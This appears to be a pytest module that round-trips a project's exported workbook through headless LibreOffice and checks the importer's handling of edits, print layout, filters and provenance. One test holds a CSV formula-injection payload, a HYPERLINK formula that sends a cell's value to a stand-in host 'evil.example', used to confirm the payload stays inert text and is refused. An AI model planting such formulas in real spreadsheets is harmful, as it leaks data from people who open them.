"""The workbook in a real spreadsheet application: LibreOffice headless reads it, prints it to PDF,
re-saves it, and every edit made through openpyxl and re-saved by LibreOffice is judged by the
import exactly as the same edit in Excel's own format would be.

LibreOffice runs three times per module (one process per run, a private profile): all sheets to
CSV, the export to PDF, and the five edited workbooks re-saved as .xlsx in one conversion. Edits
that cannot hide one another share a workbook, to keep the conversions few.
"""

from __future__ import annotations

import csv
import datetime as dt
import re
import shutil
import subprocess
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import openpyxl
import pytest

from scripts.model.package import load_package
from scripts.xlsx.ooxml import escape_ooxml_text
from scripts.xlsx.read.importer import import_workbook
from scripts.xlsx.read.layout import read_layout
from tests.faults.support import patch_part
from tests.libreoffice.pdf_text import page_text_sizes
from tests.unit.xlsx_support import cell_changes, checksums, column_of, copy_package, edit, export, row_of

pytestmark = pytest.mark.libreoffice

CSV_FILTER = "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false,false,-1"
MONTH_MEETING = "ca-consultative-6"  # date_start 2024-08; venue empty and uncited
VERBATIM_FIGURE = "intraregional-trade-region-2023-src-000"
MIN_TEXT_PT = 8.0  # the smallest printed text size accepted


def _meeting_cell(wb: Any, column: str, value: Any) -> None:
    ws = wb["meetings"]
    ws.cell(row_of(ws, MONTH_MEETING), column_of(ws, column)).value = value


def _reorder(wb: Any) -> None:
    ws = wb["meetings"]
    ws.move_range(f"A1:A{ws.max_row}", cols=ws.max_column + 1)
    ws.delete_cols(1)


def _figure(wb: Any) -> None:
    ws = wb["indicators"]
    ws.cell(row_of(ws, VERBATIM_FIGURE), column_of(ws, "value")).value = 12


def _new_key(wb: Any) -> None:
    """A state added below the states table, and a probe sheet asking the key list about it."""
    ws = wb["states"]
    ws.append(["ZZZ", "Zedland", "false"])
    probe = wb.create_sheet("probe")
    probe["A1"], probe["B1"] = "=ROWS(keys_states_state_id)", '=COUNTIF(keys_states_state_id,"ZZZ")'


def _columns_and_literal(wb: Any) -> None:
    """Moved, added and inserted columns on three sheets, a literal _x0041_ typed in a cell, and a
    yes/no cell retyped as a spreadsheet boolean (LibreOffice saves it as the formula TRUE())."""
    _meeting_cell(wb, "venue", escape_ooxml_text("Hall _x0041_"))
    _meeting_cell(wb, "is_chair_inferred", False)
    _reorder(wb)
    ws = wb["states"]
    ws.cell(1, ws.max_column + 1).value = "notes"
    ws.cell(2, ws.max_column).value = "check this"
    ws = wb["persons"]
    ws.insert_cols(3)
    ws.cell(1, 3).value, ws.cell(2, 3).value = "comment", "typed in the new column"


def _refusals(wb: Any) -> None:
    """Five mistakes in five places (each must give exactly one message), and a key added to a lookup."""
    ws = wb["meetings"]
    venue, date = column_of(ws, "venue"), column_of(ws, "date_start")
    ws.cell(row_of(ws, MONTH_MEETING), date).value = dt.datetime(2024, 8, 15)
    for row, text in ((2, "a\rb"), (3, "a_x000D_b"), (4, "a_x0000_b")):
        ws.cell(row, venue).value = text
    wb["documents"].delete_cols(column_of(wb["documents"], "title"))
    _new_key(wb)


EDITS: dict[str, Callable[[Any], None]] = {
    "untouched": lambda wb: None,
    "one_cell": lambda wb: _meeting_cell(wb, "venue", "Palace of Independence"),
    "columns": _columns_and_literal,
    "refusals": _refusals,
    "figure": _figure,
}


FORMULA_LIKE = '=HYPERLINK("http://evil.example/?leak="&A2,"click")'


def _formula_like(exported: Path, dest: Path) -> Path:
    """The export as it is written for a text starting like a formula: the first topic's
    description an inline string (openpyxl would turn such a text into a formula)."""
    with zipfile.ZipFile(exported) as archive:
        part = read_layout(archive, 1 << 26).sheets["topics"]
        xml = archive.read(part).decode("utf-8")
    cell = re.search(r'<c r="C2" [^>]*t="inlineStr"><is><t>[^<]*</t></is></c>', xml)
    assert cell is not None
    text = FORMULA_LIKE.replace("&", "&amp;")
    return patch_part(exported, dest, part, lambda old: old.replace(
        cell.group(0), re.sub(r"<t>[^<]*</t>", f"<t>{text}</t>", cell.group(0))))


def soffice(args: list[str], profile: Path) -> None:
    done = subprocess.run([shutil.which("soffice") or "soffice", f"-env:UserInstallation={profile.as_uri()}",
                           "--headless", "--norestore", *args], capture_output=True, text=True, timeout=300)
    assert done.returncode == 0, done.stderr


@pytest.fixture(scope="module")
def work(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
    if shutil.which("soffice") is None:
        pytest.skip("LibreOffice (soffice) is not installed: apt-get install libreoffice-calc (.ci/run does this)")
    base = tmp_path_factory.mktemp("libreoffice")
    package = copy_package(base / "pkg")
    exported = export(package, base / "export.xlsx")
    (base / "edited").mkdir()
    edited = [edit(exported, base / "edited" / f"{name}.xlsx", change) if name != "untouched"
              else shutil.copy(exported, base / "edited" / "untouched.xlsx")
              for name, change in EDITS.items()]
    edited.append(_formula_like(exported, base / "edited" / "formula_like.xlsx"))
    profile = base / "profile"
    soffice(["--convert-to", "xlsx", "--outdir", str(base / "resaved"), *map(str, edited)], profile)
    soffice(["--convert-to", "pdf", "--outdir", str(base / "pdf"), str(exported)], profile)
    soffice(["--convert-to", CSV_FILTER, "--outdir", str(base / "csv"), str(exported)], profile)
    return {"package": package, "export": exported, "resaved": base / "resaved", "pdf": base / "pdf" / "export.pdf",
            "csv": base / "csv"}


@pytest.fixture()
def pkg(work: dict[str, Path], tmp_path: Path) -> Path:
    dest = tmp_path / "pkg"
    shutil.copytree(work["package"], dest)
    return dest


def _import(pkg: Path, work: dict[str, Path], name: str, sources: Path | None = None):
    before = checksums(pkg)
    result = import_workbook(pkg, work["resaved"] / f"{name}.xlsx", sources)
    if result.problems:
        assert checksums(pkg) == before
    return result


def _printed_pages(pdf: Path) -> list[tuple[str, str]]:
    """(sheet, text) of every page of the printed workbook; the sheet is read from the footer,
    which names it (``&A``) beside the page number."""
    if shutil.which("pdftotext") is None:
        pytest.skip("pdftotext is not installed: apt-get install poppler-utils (.ci/run does this)")
    text = subprocess.run(["pdftotext", "-layout", str(pdf), "-"], capture_output=True, text=True,
                          check=True, timeout=120).stdout
    pages = []
    for page in text.split("\f")[:-1]:
        footer = re.fullmatch(r"\s*(\S.*?)\s{2,}Page \d+ of \d+", page.strip().splitlines()[-1])
        assert footer is not None, page[-200:]
        pages.append((footer.group(1), page))
    return pages


@pytest.mark.pdftotext
def test_no_value_prints_as_hashes_and_figures_print_with_their_unit(work):
    """A number too wide for its column prints as ###: the widths are measured on the text the
    number format shows (36.5 becomes "36.5 billion USD"), so none does."""
    pages = _printed_pages(work["pdf"])
    assert [(sheet, line.strip()) for sheet, text in pages for line in text.splitlines() if "###" in line] == []
    indicators = "".join(text for sheet, text in pages if sheet == "indicators")
    assert "36.5 billion USD" in indicators and "5,000" in indicators


@pytest.mark.pdftotext
def test_every_page_prints_its_text_at_a_readable_size(work):
    """The effective size of every text on every page is at least MIN_TEXT_PT points.

    Method: the PDF is read by :mod:`tests.libreoffice.pdf_text`, which follows each page's
    drawing operators: a text's size is the font size of ``Tf`` times the vertical scale of the
    text matrix and of the current transformation, which is where LibreOffice's print scaling
    shows (an 11-point cell on a sheet fitted at 43 % is drawn as a 4.7-point font). The export
    fits a sheet to the page width only while that keeps 11-point text at 75 % (8.25 points),
    else prints it at 75 % across pages; the chart's axis labels have a stated size."""
    sheets = [sheet for sheet, _ in _printed_pages(work["pdf"])]
    small = [(number, sheet, min(sizes)) for number, (sheet, sizes) in
             enumerate(zip(sheets, page_text_sizes(work["pdf"]), strict=True), start=1)
             if sizes and min(sizes) < MIN_TEXT_PT]
    assert small == []


@pytest.mark.pdftotext
def test_wide_sheets_print_across_pages_with_the_key_column_on_every_page(work):
    """No column is cut off (every header prints on some page of its sheet) and every page of a
    table sheet shows the header of its key column, so each printed value can be traced to its
    record; meetings (19 columns) takes more than one page across."""
    pages = _printed_pages(work["pdf"])
    for name, table in load_package(work["package"]).tables.items():
        texts = [text for sheet, text in pages if sheet == name]
        assert texts, name
        assert all(table.field_names[0] in text for text in texts), name
        assert [f for f in table.field_names if not any(re.search(rf"\b{f}\b", t) for t in texts)] == [], name
    first_rows = [text for sheet, text in pages if sheet == "meetings" and "ca-consultative-1 " in text]
    assert len(first_rows) >= 2


def test_every_table_sheet_keeps_its_filter_buttons_through_libreoffice(work):
    """Each table sheet is an Excel table with an AutoFilter over all its rows; LibreOffice shows
    it as filter buttons and writes it back on save."""
    wb = openpyxl.load_workbook(work["resaved"] / "untouched.xlsx")
    for name, table in load_package(work["package"]).tables.items():
        ws = wb[name]
        with table.path.open(encoding="utf-8", newline="") as handle:
            rows = sum(1 for _ in csv.reader(handle))
        full = f"A1:{ws.cell(1, len(table.fields)).column_letter}{max(rows, 2)}"
        assert [(t.ref, t.autoFilter.ref) for t in ws.tables.values()] == [(full, full)], name


def test_libreoffice_reads_every_table_as_written(work):
    for name, table in load_package(work["package"]).tables.items():
        with (work["csv"] / f"export-{name}.csv").open(encoding="utf-8", newline="") as handle:
            seen = list(csv.reader(handle))
        with table.path.open(encoding="utf-8", newline="") as handle:
            assert seen == list(csv.reader(handle)), name


def test_untouched_resave_imports_byte_identical(pkg, work, sources):
    result = _import(pkg, work, "untouched", sources)
    assert (result.problems, result.changed) == ([], [])
    assert checksums(pkg) == checksums(work["package"])


def test_one_cell_edit_is_one_change(pkg, work, sources):
    result = _import(pkg, work, "one_cell", sources)
    assert result.problems == []
    assert [c[0] + ":" + c[2] for c in cell_changes(work["package"], pkg)] == ["meetings.csv:venue"]


def test_moved_added_and_inserted_columns_import_and_literal_text_round_trips(pkg, work):
    result = _import(pkg, work, "columns")
    assert result.problems == []
    assert result.notes == ["states: column D 'notes' is not a field of states and was not imported",
                            "persons: column C 'comment' is not a field of persons and was not imported"]
    assert [c[2:] for c in cell_changes(work["package"], pkg)] == [("venue", "", "Hall _x0041_")]


def test_each_mistake_is_one_message_at_its_cell(pkg, work):
    result = _import(pkg, work, "refusals")
    assert sorted((p.rule, p.message[:60]) for p in result.problems) == [
        ("control-character", "meetings!J2: the text holds the control character U+000D at "),
        ("control-character", "meetings!J3: the text holds the control character U+000D at "),
        ("control-character", "meetings!J4: the text holds the control character U+0000 at "),
        ("missing-column", "documents: the column title is missing"),
        ("type-error", "meetings!F8: holds the calendar date 2024-08-15, but date_st"),
    ]


def test_changed_verbatim_figure_is_refused_by_provenance(pkg, work, sources):
    result = _import(pkg, work, "figure", sources)
    assert [p.rule for p in result.problems] == ["citation-value-missing"]


def test_row_added_below_has_validation_and_new_key_reaches_the_dropdown(work):
    wb = openpyxl.load_workbook(work["resaved"] / "refusals.xlsx", data_only=True)
    assert (wb["probe"]["A1"].value, wb["probe"]["B1"].value) == (15, 1)  # 14 states + ZZZ, found once
    ws = wb["meetings"]
    host = ws.cell(1, column_of(ws, "host_state_id")).column_letter
    below = f"{host}{ws.max_row + 1}"
    rules = [dv for dv in ws.data_validations.dataValidation if below in dv.sqref]
    assert [r.formula1 for r in rules] == ["keys_states_state_id"]


def test_lost_update_is_refused_after_a_resave(pkg, work):
    states = pkg / "tables" / "states.csv"
    states.write_text(states.read_text(encoding="utf-8").replace("Azerbaijan", "Azerbaijan Republic"),
                      encoding="utf-8")
    result = _import(pkg, work, "untouched")
    assert [p.rule for p in result.problems] == ["tables-changed"]


def test_text_that_looks_like_a_formula_stays_text_through_libreoffice(pkg, work):
    """A text starting with "=" is an inline string in the workbook: LibreOffice opens and saves it
    as text (not as the live formula it spells), and the import reads back exactly that text, which
    validation then refuses (``no_formula_text``): the released CSVs must never hold a cell that a
    spreadsheet opening them would run."""
    before = (pkg / "tables" / "topics.csv").read_bytes()
    result = _import(pkg, work, "formula_like")
    [problem] = result.problems
    assert (problem.rule, problem.field, problem.value) == ("no_formula_text", "description", FORMULA_LIKE)
    assert problem.message.startswith("topics!C2: description starts with '='")
    assert (pkg / "tables" / "topics.csv").read_bytes() == before
